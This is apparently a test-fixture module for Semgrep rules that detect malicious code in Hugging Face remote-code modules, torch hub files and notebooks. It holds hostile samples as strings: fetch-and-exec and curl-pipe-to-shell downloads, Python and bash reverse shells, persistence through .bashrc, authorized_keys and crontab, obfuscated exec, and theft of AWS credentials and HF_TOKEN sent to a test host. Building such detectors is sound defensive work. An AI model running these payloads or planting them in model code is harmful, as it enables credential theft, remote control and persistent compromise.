"""Remote-code modules and notebooks for the Semgrep rule tests: what each must (not) trigger.

Kept as strings (not .py fixture files) so the repository's linters never see them as code.
Remote code is written where transformers puts it (``transformers_modules/<org>/<repo>/<commit>/``)
and torch hub (``hub/<owner>_<repo>_<ref>/hubconf.py``); notebooks are written with nbformat.
"""

from __future__ import annotations

from pathlib import Path

TM = "hf/modules/transformers_modules/evil-org/tiny-llm/0a1b2c3d4e5f60718293a4b5c6d7e8f901234567"
TM_OK = "hf/modules/transformers_modules/good-org/tiny-bert/1111111111111111111111111111111111111111"
HUB = "torch/hub/evil_vision_main"
HUB_OK = "torch/hub/pytorch_vision_main"

FETCH, SHELL_DL, REVSHELL = "mlsleuth-fetch-and-exec", "mlsleuth-shell-download-exec", "mlsleuth-reverse-shell"
SPAWN, PERSIST = "mlsleuth-remote-code-process-spawn", "mlsleuth-persistence-write"
CREDS, SECRET_ENV = "mlsleuth-credential-read", "mlsleuth-remote-code-secret-env"
OBFUSCATED = "mlsleuth-obfuscated-exec"

# relative path -> (source, rules that must fire; empty = benign)
REMOTE_CODE: dict[str, tuple[str, set[str]]] = {
    f"{TM}/modeling_fetch.py": ('''
import requests
from torch import nn

URL = "http://203.0.113.9/stage2.py"


class TinyModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        code = requests.get(URL, timeout=5).text
        ex''' '''ec(code, {"config": config})
''', {FETCH}),
    f"{TM}/configuration_urlopen.py": ('''
import base64
from urllib.request import urlopen


def _bootstrap(url):
    blob = urlopen(url).read()
    payload = base64.b64decode(blob)
    ex''' '''ec(compile(payload, "<cfg>", "exec"))
''', {FETCH}),
    f"{HUB}/hubconf.py": ('''
import subprocess

dependencies = ["torch"]


def resnet18(pretrained=False):
    subprocess.Popen(["/bin/sh", "-c", "curl -fsSL http://203.0.113.9/i.sh | sh"])
    return None
''', {SHELL_DL, SPAWN}),
    f"{TM}/modeling_shell.py": ('''
import os
import pty
import socket


def _connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("203.0.113.9", 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    pty.spawn("/bin/bash")
''', {REVSHELL, SPAWN}),
    f"{TM}/tokenization_persist.py": ('''
import os
from pathlib import Path

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerKey attacker"


def _persist():
    with open(os.path.expanduser("~/.bashrc"), "a") as fh:
        fh.write("curl -s http://203.0.113.9/b | sh\\n")
    ak = Path.home() / ".ssh" / "authorized_keys"
    ak.write_text(KEY)
''', {PERSIST}),
    f"{TM}/cron_persist.py": ('''
import os

os.system("(crontab -l; echo '* * * * * /usr/bin/python3 /tmp/.x.py') | crontab -")
''', {PERSIST, SPAWN}),
    f"{TM}/tokenization_packed.py": ('''
import base64
import marshal
import zlib

BLOB = b"eJwrycxNVSjJSFUoLUhRyC9KSS0CAD5qBj8="
ex''' '''ec(zlib.decompress(base64.b64decode(BLOB)))


def _stage2(data):
    return ev''' '''al(marshal.loads(data))
''', {OBFUSCATED}),
    f"{TM}/modeling_creds.py": ('''
import os

import requests


def _steal():
    creds = open(os.path.expanduser("~/.aws/credentials")).read()
    token = os.environ.get("HF_TOKEN")
    requests.post("http://203.0.113.9/c", data={"c": creds, "t": token})
''', {CREDS, SECRET_ENV}),
    # -- benign remote code ------------------------------------------------------------------------
    f"{TM_OK}/modeling_tiny_bert.py": ('''
import json
import os

import requests
from torch import nn


class TinyBert(nn.Module):
    def __init__(self, config, cache_dir=None):
        super().__init__()
        cache_dir = cache_dir or os.environ.get("TRANSFORMERS_CACHE", "/tmp")
        os.makedirs(cache_dir, exist_ok=True)
        with open(os.path.join(cache_dir, "vocab.txt"), "w") as fh:
            fh.write("[PAD]\\n[UNK]\\n")
        with open(".profile_results.json", "w") as fh:
            json.dump({"layers": 2}, fh)
        weights = requests.get("https://example.org/w.bin", timeout=5).content
        with open(os.path.join(cache_dir, "w.bin"), "wb") as fh:
            fh.write(weights)
        self.layers = nn.ModuleList()
''', set()),
    f"{HUB_OK}/hubconf.py": ('''
import torch

dependencies = ["torch"]


def resnet18(pretrained=False, **kwargs):
    model = torch.nn.Identity()
    if pretrained:
        url = "https://download.pytorch.org/models/resnet18-f37072fd.pth"
        model.load_state_dict(torch.hub.load_state_dict_from_url(url, progress=True))
    return model
''', set()),
}

# notebook file name -> (code cells, rules that must fire in the converted .ipynb.py)
NOTEBOOKS: dict[str, tuple[list[str], set[str]]] = {
    "curl_pipe.ipynb": (["import os", "!curl -fsSL http://203.0.113.9/i.sh | bash"], {SHELL_DL}),
    "bash_revshell.ipynb": (["%%bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"], {REVSHELL}),
    "fetch_exec.ipynb": (["import requests", "r = requests.get('http://203.0.113.9/p.py')\nex" "ec(r.text)"], {FETCH}),
    "packed.ipynb": (["import base64", "ex" "ec(base64.b64decode('cHJpbnQoMSk='))"], {OBFUSCATED}),
    "creds.ipynb": (["print(open('/home/alice/.aws/credentials').read())", "!cat ~/.ssh/id_rsa"], {CREDS}),
    "persist.ipynb": (["!echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys"], {PERSIST}),
    "benign_finetune.ipynb": ([
        "!pip install -q transformers datasets",
        "%matplotlib inline",
        "import os\nimport subprocess\ntoken = os.environ['HF_TOKEN']\nsubprocess.run(['nvidia-smi'])",
        "from transformers import AutoModel\nmodel = AutoModel.from_pretrained('gpt2')",
        "!wget -q https://example.org/data.csv -O data.csv",
        "with open('results.csv', 'w') as fh:\n    fh.write('loss\\n0.1\\n')",
        "import base64\nimg = base64.b64decode(open('plot.b64').read())",
    ], set()),
}


def write_remote_code(root: Path) -> dict[Path, set[str]]:
    out = {}
    for rel, (src, rules) in REMOTE_CODE.items():
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(src.lstrip("\n"))
        out[p] = rules
    return out


def write_notebooks(root: Path) -> dict[Path, set[str]]:
    import nbformat

    root.mkdir(parents=True, exist_ok=True)
    out = {}
    for name, (cells, rules) in NOTEBOOKS.items():
        nb = nbformat.v4.new_notebook()
        nb.cells = [nbformat.v4.new_code_cell(c, execution_count=i + 1) for i, c in enumerate(cells)]
        nb.cells.insert(0, nbformat.v4.new_markdown_cell("# analysis"))
        nbformat.write(nb, root / name)
        out[root / name] = rules
    return out
